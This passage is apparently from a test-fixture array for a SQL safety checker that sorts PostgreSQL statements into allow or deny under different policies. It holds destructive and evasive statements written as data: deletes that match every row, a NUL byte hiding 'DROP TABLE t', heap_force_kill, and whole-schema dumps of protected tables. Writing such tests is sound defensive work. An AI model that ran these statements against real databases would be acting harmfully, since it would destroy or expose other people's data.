  { name: 'WHERE 1 < 2', sql: 'DELETE FROM t WHERE 1 < 2', why: 'constant', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'WHERE $1', sql: 'DELETE FROM t WHERE $1', why: 'a bound true deletes every row', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'WHERE random() < 2', sql: 'DELETE FROM t WHERE random() < 2', why: 'does not depend on the row', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'uncorrelated EXISTS', sql: 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.x = 1)', why: 'true for every row of t or for none', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'DELETE USING with a WHERE on the other table', sql: 'DELETE FROM t USING u WHERE u.x = 1', why: 'every row of t joins any u with x = 1', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'UPDATE FROM with a WHERE on the other table', sql: 'UPDATE t SET a = 1 FROM u WHERE u.id = 1', why: 'the same for UPDATE', facts: { flags: ['updateWithoutWhere'] }, readOnly: 'deny', packs: { 'no-update-without-where': 'deny' } },
  { name: 'IS NULL OR IS NOT NULL', sql: 'DELETE FROM t WHERE id IS NULL OR id IS NOT NULL', why: 'a tautology over the row', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'MERGE ON a source-only condition', sql: 'MERGE INTO t USING s ON s.x = 1 WHEN MATCHED THEN DELETE', why: 'every row of t matches', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'MERGE ON false, NOT MATCHED BY SOURCE', sql: 'MERGE INTO t USING s ON false WHEN NOT MATCHED BY SOURCE THEN DELETE', why: 'no target row matches, so every one is deleted', facts: { flags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'deny' } },
  { name: 'aliased target in WHERE', sql: 'DELETE FROM orders o WHERE o.id = 5', why: 'a real WHERE through the alias', facts: { hasWhere: true, noFlags: ['deleteWithoutWhere'] }, readOnly: 'deny', packs: { 'no-delete-without-where': 'allow' } },
  { name: 'correlated subquery in WHERE', sql: 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)', why: 'depends on the row', facts: { hasWhere: true }, readOnly: 'deny', packs: { 'no-delete-without-where': 'allow' } },
  { name: 'UPDATE FROM joined to the target', sql: 'UPDATE t SET a = u.a FROM u WHERE u.id = t.id', why: 'a real join', facts: { hasWhere: true }, readOnly: 'deny', packs: { 'no-update-without-where': 'allow' } },
  { name: 'advisory lock', sql: 'SELECT pg_advisory_lock(42)', why: 'blocks every other session that takes the key', facts: { kind: 'read', flags: ['rowLocks'] }, readOnly: 'deny', packs: { 'no-admin': 'allow' } },
  { name: 'advisory try-lock, qualified', sql: 'SELECT pg_catalog.pg_try_advisory_xact_lock(1, 2)', why: 'the same', facts: { flags: ['rowLocks'] }, readOnly: 'deny' },
  { name: 'ALTER ROLE SET standard_conforming_strings', sql: 'ALTER ROLE me SET standard_conforming_strings = off', why: "later sessions would lex 'a\\' differently: refused by every policy", facts: { flags: ['parserDivergence'] }, readOnly: 'deny', custom: 'deny', packs: { 'no-dcl': 'deny', 'no-ddl': 'deny' } },
  { name: 'ALTER DATABASE SET standard_conforming_strings', sql: "ALTER DATABASE app SET standard_conforming_strings TO 'false'", why: 'the same for the database', facts: { flags: ['parserDivergence'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'CREATE TABLE AS EXECUTE of a prepared SELECT', sql: 'CREATE TABLE stolen AS EXECUTE p', prepared: 'PREPARE p AS SELECT * FROM public.users', why: 'resolving p must not drop the CREATE TABLE AS around it', facts: { kind: 'ddl', command: 'CREATE_TABLE_AS', commands: ['CREATE_TABLE_AS', 'SELECT'], tables: ['stolen:write', 'public.users:read'], noFlags: ['unresolvedExecute'] }, readOnly: 'deny', packs: { 'no-ddl': 'deny' } },
  { name: 'EXPLAIN ANALYZE EXECUTE of a prepared SELECT', sql: 'EXPLAIN ANALYZE EXECUTE p', prepared: 'PREPARE p AS SELECT * FROM public.users', why: 'a read stays a read', facts: { kind: 'read', command: 'SELECT' }, readOnly: 'allow', allowlist: 'allow' },
  { name: 'schema_to_xml of a denied schema', sql: "SELECT schema_to_xml('billing', true, false, '')", why: 'reads every table of billing: a wildcard table billing.*', facts: { kind: 'read', tables: ['billing.*:read'], flags: ['dynamicCode'] }, readOnly: 'allow', custom: 'deny', allowlist: 'deny' },
  { name: 'schema_to_xml of an allowed schema', sql: "SELECT schema_to_xml('public', true, false, '')", why: 'every table of public is what public.* allows', facts: { tables: ['public.*:read'] }, readOnly: 'allow', allowlist: 'allow' },
  { name: 'database_to_xml', sql: "SELECT database_to_xml(true, false, '')", why: 'every table of every schema', facts: { tables: ['*:read'] }, readOnly: 'allow', custom: 'deny', allowlist: 'deny' },
  { name: 'table_to_xml of a computed name', sql: "SELECT table_to_xml(current_setting('my.t')::regclass, true, false, '')", why: 'could be any table', facts: { tables: ['*:read'], flags: ['dynamicCode'] }, readOnly: 'allow', custom: 'deny', allowlist: 'deny' },
  { name: 'NUL byte hiding a statement', sql: 'SELECT 1\u0000; DROP TABLE t', why: 'the parser stops at NUL: refused, not judged on the part before it', parseError: true, readOnly: 'deny', custom: 'deny' },
  { name: 'pg_surgery', sql: "SELECT heap_force_kill('t'::regclass, ARRAY['(0,1)']::tid[])", why: 'destroys tuples', facts: { kind: 'admin' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  // --- differential run against PostgreSQL 15 (regression corpus + catalog of volatile built-ins):
  // statements PostgreSQL runs with default_transaction_read_only on that still change state ------
  { name: 'COMMIT PREPARED', sql: "COMMIT PREPARED 'w1'", why: "commits another session's prepared writes; PostgreSQL allows it in a read-only session", facts: { kind: 'write', command: 'COMMIT_PREPARED' }, readOnly: 'deny' },
  { name: 'ROLLBACK PREPARED', sql: "ROLLBACK PREPARED 'w1'", why: "throws away another session's prepared transaction", facts: { kind: 'write', command: 'ROLLBACK_PREPARED' }, readOnly: 'deny' },
  { name: 'PREPARE TRANSACTION', sql: "BEGIN; SELECT 1; PREPARE TRANSACTION 'r1'", statements: 3, at: 2, why: 'the transaction outlives the session, holding its locks and xmin', facts: { kind: 'write', command: 'PREPARE' }, readOnly: 'deny' },
  { name: 'NOTIFY', sql: "NOTIFY jobs, 'run'", why: 'delivered to every listener (job queues), from a read-only transaction too', facts: { kind: 'write', command: 'NOTIFY' }, readOnly: 'deny', packs: { 'no-ddl': 'allow' } },
  { name: 'pg_notify', sql: "SELECT pg_notify('jobs', 'run')", why: 'NOTIFY as a function', facts: { kind: 'write', functions: ['pg_notify'] }, readOnly: 'deny' },
  { name: 'brin_summarize_range', sql: "SELECT pg_catalog.brin_summarize_range('orders_brin', 0)", why: 'rewrites index pages (WAL, no xid): runs read-only', facts: { kind: 'admin', flags: ['adminFunction'] }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
  { name: 'brin_desummarize_range', sql: "SELECT brin_desummarize_range('orders_brin'::regclass, 0)", why: 'the same', facts: { kind: 'admin' }, readOnly: 'deny' },
  { name: 'pageinspect raw page of a denied table', sql: "SELECT * FROM heap_page_items(get_raw_page('billing.cards', 0))", why: "the page's tuples are the table's rows: reads every table, not one the rules would name", facts: { kind: 'read', tables: ['*:read'] }, readOnly: 'allow', custom: 'deny', allowlist: 'deny' },
  { name: 'pageinspect index items', sql: "SELECT * FROM bt_page_items('cards_pkey', 1)", why: "an index's keys are the table's values", facts: { tables: ['*:read'] }, readOnly: 'allow', custom: 'deny', allowlist: 'deny' },
  { name: 'gin_clean_pending_list', sql: "SELECT gin_clean_pending_list('docs_gin')", why: 'merges the pending list into the index, read-only or not', facts: { kind: 'admin' }, readOnly: 'deny', packs: { 'no-admin': 'deny' } },
];
